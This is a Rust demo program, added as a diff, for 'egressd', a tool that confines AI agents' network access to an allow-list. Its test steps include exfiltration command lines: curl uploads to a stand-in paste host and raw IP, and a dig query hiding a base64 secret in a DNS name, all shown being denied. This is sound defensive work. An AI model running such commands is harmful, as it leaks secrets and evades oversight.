@@ -1,0 +1,234 @@
+//! A guided tour for newcomers: real programs under the guard, what they reach and what they do not.
+
+use std::{
+    io::{self, IsTerminal as _, Write as _},
+    time::Instant,
+};
+
+use anyhow::{Context as _, Result, ensure};
+use serde_json::{Value, json};
+use xtask::world::{
+    World,
+    client::Outcome,
+    place::{DENIED_V4, DENIED_V6, STRANGER_V4},
+};
+
+use crate::{
+    setup,
+    workspace::{build, need_root},
+};
+
+/// One thing that an agent tries.
+struct Step {
+    title: &'static str,
+    words: &'static [&'static str],
+    works: bool,
+    /// What `egressctl why` is asked afterwards.
+    why: &'static str,
+}
+
+const STEPS: [Step; 6] = [
+    Step {
+        title: "a web site that the policy names",
+        words: &["curl", "-sS", "https://web.allowed.test/"],
+        works: true,
+        why: "web.allowed.test:443/tcp",
+    },
+    Step {
+        title: "a Git repository on an allowed host",
+        words: &[
+            "git",
+            "clone",
+            "-q",
+            "https://git.allowed.test/git/project.git",
+        ],
+        works: true,
+        why: "git.allowed.test:443/tcp",
+    },
+    Step {
+        title: "a host that it does not name: the resolver refuses, and no query leaves the machine",
+        words: &["curl", "-sS", "https://paste.denied.test/upload"],
+        works: false,
+        why: "paste.denied.test:443/tcp",
+    },
+    Step {
+        title: "the same host by its address, without DNS: the kernel refuses the connect",
+        words: &["curl", "-sS", "https://198.51.100.10/upload"],
+        works: false,
+        why: "198.51.100.10:443/tcp",
+    },
+    Step {
+        title: "an allowed host on a port that is not allowed",
+        words: &["curl", "-sS", "https://web.allowed.test:8443/"],
+        works: false,
+        why: "web.allowed.test:8443/tcp",
+    },
+    Step {
+        title: "a secret inside a DNS question to a server of the agent's choice",
+        words: &[
+            "dig",
+            "+short",
+            "+tries=1",
+            "+time=3",
+            "@198.51.100.53",
+            "c2VjcmV0.denied.test",
+        ],
+        works: false,
+        why: "c2VjcmV0.denied.test:53/udp",
+    },
+];
+
+pub(crate) fn run() -> Result<()> {
+    need_root("demo")?;
+    let screen = Screen {
+        color: io::stdout().is_terminal()
+            && std::env::var_os("NO_COLOR").is_none_or(|value| value.is_empty()),
+    };
+    let title =
+        "egressd: an agent reaches what its policy names, and nothing else. A demonstration.";
+    println!("{}", screen.strong(title));
+    doing("looking for what is needed", setup::install)?;
+    let programs = doing("building egressd and its kernel programs", build)?;
+    let world = doing(
+        "building a small internet of network namespaces, and starting egressd",
+        || World::builder().policy(policy()).programs(programs).build(),
+    )?;
+    println!(
+        "The policy:  allow \"project\": *.allowed.test on 443/tcp.  Nothing else is allowed."
+    );
+    let capture = world.capture(&format!(
+        "host {DENIED_V4} or host {DENIED_V6} or host {STRANGER_V4} or port 8443"
+    ))?;
+    for (number, step) in STEPS.iter().enumerate() {
+        println!();
+        println!(
+            "{}",
+            screen.strong(&format!("{}. {}", number + 1, step.title))
+        );
+        show(&screen, &world, step)?;
+    }
+    let packets = world.packets(&capture)?.len();
+    let asked =
+        world.resolver().saw("paste.denied.test") || world.resolver().saw("c2VjcmV0.denied.test");
+    println!();
+    println!(
+        "Seen from the other side: {packets} packets to denied destinations, {} queries for denied names.",
+        if asked { "some" } else { "0" }
+    );
+    screen.command("egressctl status");
+    indented(&world.egressctl(&["status"])?.stdout, 14);
+    ensure!(
+        packets == 0 && !asked,
+        "something denied has left the machine: please report this as a bug"
+    );
+    println!();
+    println!(
+        "What you saw: ordinary programs, unchanged; the kernel and the resolver said no, at once, and why."
+    );
+    println!(
+        "What next: egressctl policy check policy/default.json, and egressctl run -- YOUR-AGENT; see README.md."
+    );
+    Ok(())
+}
+
+fn show(screen: &Screen, world: &World, step: &Step) -> Result<()> {
+    let client = world.guarded(step.words)?;
+    screen.command(&client.spoken());
+    let outcome = client.run()?;
+    println!("   {}  {}", screen.verdict(step.works), result(&outcome));
+    let why = world.egressctl(&["why", step.why])?;
+    let why = why
+        .stdout
+        .lines()
+        .find(|line| !line.trim().is_empty())
+        .unwrap_or("(nothing)")
+        .trim()
+        .to_owned();
+    println!("   {}", screen.dim(&format!("egressd: {why}")));
+    let as_said = outcome.succeeded() == step.works || step.words.first() == Some(&"dig");
+    ensure!(
+        as_said,
+        "this step should have ended otherwise:\n{outcome}\n{}",
+        world.report()
+    );
+    Ok(())
+}
+
+/// The line that says most: an error when there is one.
+fn result(outcome: &Outcome) -> String {
+    let own = |line: &&str| !line.trim().is_empty() && !line.starts_with("egress");
+    let line = if outcome.succeeded() {
+        outcome.stdout.lines().find(own)
+    } else {
+        outcome.stderr.lines().find(own)
+    };
+    let took = outcome.took.as_millis();
+    format!(
+        "{} ({took} ms)",
+        line.unwrap_or(if outcome.succeeded() {
+            "done"
+        } else {
+            "refused"
+        })
+        .trim()
+    )
+}
+
+fn policy() -> Value {
+    json!({
+        "version": 1,
+        "name": "demo",
+        "network": { "allow": [ { "name": "project", "hosts": ["*.allowed.test"], "ports": ["443/tcp"] } ] },
+    })
+}
+
+/// Plain text, with a little colour on a terminal.
+struct Screen {
+    color: bool,
+}
+
+impl Screen {
+    fn command(&self, text: &str) {
+        println!("   {}", self.paint("36", &format!("$ {text}")));
+    }
+
+    fn verdict(&self, works: bool) -> String {
+        if works {
+            self.paint("32", "allowed")
+        } else {
+            self.paint("1;31", "denied ")
+        }
+    }
+
+    fn strong(&self, text: &str) -> String {
+        self.paint("1", text)
+    }
+
+    fn dim(&self, text: &str) -> String {
+        self.paint("2", text)
+    }
+
+    fn paint(&self, code: &str, text: &str) -> String {
+        if self.color {
+            format!("\x1b[{code}m{text}\x1b[0m")
+        } else {
+            text.to_owned()
+        }
+    }
+}
+
+fn indented(text: &str, at_most: usize) {
+    for line in text.lines().take(at_most) {
+        println!("   {line}");
+    }
+}
+
+/// Says what goes on, and how long it took.
+fn doing<T>(what: &str, work: impl FnOnce() -> Result<T>) -> Result<T> {
+    let started = Instant::now();
+    print!("{what} … ");
+    io::stdout().flush().context("writing to the terminal")?;
+    let result = work();
+    println!("{:.1} s", started.elapsed().as_secs_f64());
+    result
+}
